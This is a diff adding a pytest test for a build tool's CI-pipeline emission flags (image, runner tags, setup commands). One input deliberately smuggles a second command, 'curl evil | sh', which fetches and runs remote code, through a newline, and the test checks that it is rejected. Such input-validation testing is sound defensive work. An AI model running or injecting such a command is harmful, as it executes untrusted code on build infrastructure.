@@ -158,3 +158,19 @@ def test_emit_full_forces_every_build_job_but_not_publish(root: Path,
     assert runs["publish"] == ["stackbuild", "publish", "stacks/t"]
     assert _plan(root, "--emit", "github", "--full", "--changed-since", "HEAD") == 2
     assert "--full and --changed-since exclude each other" in capsys.readouterr().err
+
+
+def test_emit_ci_flags_set_where_and_after_what_every_job_runs(root: Path,
+                                                               capsys: pytest.CaptureFixture[str]) -> None:
+    # a GitLab child pipeline made in CI cannot be edited by hand: its jobs need stackbuild set up
+    assert _plan(root, "--emit", "gitlab", "--ci-runner", "docker", "--ci-image", "docker:26",
+                 "--ci-setup", "make setup", "--ci-setup", "docker login -u ci r.example") == 0
+    default = yaml.safe_load(capsys.readouterr().out)["default"]
+    assert default == {"image": "docker:26", "tags": ["docker"],
+                       "before_script": ["make setup", "docker login -u ci r.example"]}
+    assert _plan(root, "--emit", "github", "--ci-image", "docker 26") == 2
+    assert "--ci-image: 'docker 26' contains white space" in capsys.readouterr().err
+    assert _plan(root, "--emit", "github", "--ci-setup", "make setup\ncurl evil | sh") == 2
+    assert "control" in capsys.readouterr().err
+    assert _plan(root, "--ci-setup", "make setup") == 2
+    assert "--ci-setup: only with --emit" in capsys.readouterr().err
